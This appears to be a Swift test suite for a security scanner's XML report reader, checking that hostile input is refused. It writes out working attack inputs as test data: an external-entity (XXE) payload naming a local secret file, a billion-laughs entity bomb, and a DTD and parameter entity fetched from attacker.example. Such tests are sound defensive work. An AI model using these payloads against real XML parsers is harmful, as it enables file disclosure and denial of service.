import Foundation
import Testing
import VigilCore
@testable import VigilScans

/// Scanner reports come from outside: entities (external ones, "billion laughs") are refused
/// before anything is read, nothing is fetched, and a plain document type line is fine.
@Suite("Hostile XML")
struct HostileXMLTests {
    func refusal(_ text: String) -> ScanReportError? {
        do {
            _ = try Samples.read(text: text)
            return nil
        } catch let error as ScanReportError {
            return error
        } catch {
            return ScanReportError(.jsonInvalid, detail: "\(error)")
        }
    }

    @Test("an external entity (XXE) is refused, and the file it names is never read")
    func externalEntity() throws {
        let secret = try Samples.file("TOP-SECRET-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(atPath: secret) }
        let xxe = """
            <?xml version="1.0"?>
            <!DOCTYPE report [ <!ENTITY xxe SYSTEM "file://\(secret)"> ]>
            <report><results><result><name>&xxe;</name><host>10.0.0.1</host><port>80/tcp</port>
            <nvt oid="1"><name>&xxe;</name></nvt><severity>5.0</severity></result></results></report>
            """
        let error = try #require(refusal(xxe))
        #expect(error.reason.contains("declarations"))
        #expect(error.location == "line 2")
    }

    @Test("billion laughs is refused at once")
    func billionLaughs() throws {
        var entities = #"<!ENTITY lol "lol">"#
        for level in 1...9 {
            entities += "<!ENTITY lol\(level) \"" + String(repeating: "&lol\(level == 1 ? "" : String(level - 1));", count: 10) + "\">"
        }
        let bomb = "<?xml version=\"1.0\"?>\n<!DOCTYPE report [\(entities)]>\n<report><results><result><name>&lol9;</name></result></results></report>"
        let clock = ContinuousClock()
        let started = clock.now
        #expect(refusal(bomb) != nil)
        #expect(clock.now - started < .seconds(1))
    }

    @Test("a network DTD or a parameter entity is refused; an undeclared entity reference is malformed")
    func others() {
        #expect(refusal(#"<?xml version="1.0"?><!DOCTYPE report SYSTEM "http://attacker.example/x.dtd" [ <!ENTITY % p SYSTEM "http://attacker.example/p"> %p; ]><report/>"#) != nil)
        #expect(refusal("<?xml version=\"1.0\"?><!ENTITY x \"y\"><report/>") != nil)
        let undeclared = refusal("<report><results><result><name>&undeclared;</name></result></results></report>")
        #expect(undeclared?.location.hasPrefix("line") == true)
    }

    @Test("a plain document type line (as in every Nmap report) and a DTD that is only named are accepted, nothing fetched")
    func plainDoctype() throws {
        #expect(throws: Never.self) { try XMLProlog.check(Array("<?xml version=\"1.0\"?>\n<!DOCTYPE nmaprun>\n<?xml-stylesheet href=\"x\"?>\n<!-- a > b -->\n<nmaprun/>".utf8)) }
        let named = "<?xml version=\"1.0\"?><!DOCTYPE report SYSTEM \"http://127.0.0.1:9/never.dtd\"><report><results/></report>"
        let (summary, results) = try Samples.read(text: named)
        #expect(summary.format == .openvas && results.isEmpty)
    }

    @Test("what is not a report is refused by its content, whatever its name")
    func unknown() {
        #expect(refusal("<html><body>not a report</body></html>")?.reason.contains("not a report Vigil reads") == true)
        #expect(refusal("") != nil)
        #expect(refusal("\u{FEFF}   ") != nil)
    }

    @Test("with a DTD only named (so libxml2 cannot tell it is undeclared), an entity reference is still refused")
    func referenceBehindNamedDTD() {
        let text = "<?xml version=\"1.0\"?><!DOCTYPE report SYSTEM \"never.dtd\"><report><results><result><name>&secret;</name></result></results></report>"
        #expect(refusal(text) != nil)
    }

    @Test("text as it is meant: predefined entities and character references decoded, in text and attributes; CDATA as text; Latin-1 converted")
    func textDecoded() throws {
        func walk(_ text: String, encoding: String.Encoding = .utf8) throws -> [String] {
            let url = FileManager.default.temporaryDirectory.appendingPathComponent("vigil-scan-\(UUID().uuidString)")
            try text.data(using: encoding)!.write(to: url)
            defer { try? FileManager.default.removeItem(at: url) }
            var walker = try XMLWalker(path: url.path)
            var seen: [String] = []
            try walker.walk(start: { _, name, attributes in
                for key in attributes.keys.sorted() { seen.append("\(name)@\(key)=\(attributes[key]!)") }
            }, end: { _, name, text in
                if !text.isEmpty { seen.append("\(name)=\(text)") }
            })
            return seen
        }
        let seen = try walk(#"<a href="x?b=1&amp;c=&lt;2&gt;" name="caf&#233;"><b>R&amp;D &#x1F512; <![CDATA[<raw> & more]]></b></a>"#)
        #expect(seen == ["a@href=x?b=1&c=<2>", "a@name=café", "b=R&D 🔒 <raw> & more"])
        let latin = try walk("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a>Café</a>", encoding: .isoLatin1)
        #expect(latin == ["a=Café"])
    }

    @Test("an element's text longer than 10 MB is refused, so one element cannot fill memory")
    func hugeText() {
        let text = "<report><results><result><description>" + String(repeating: "a", count: 11 * 1024 * 1024)
            + "</description></result></results></report>"
        #expect(refusal(text)?.reason.contains("longer than 10 MB") == true)
    }
}
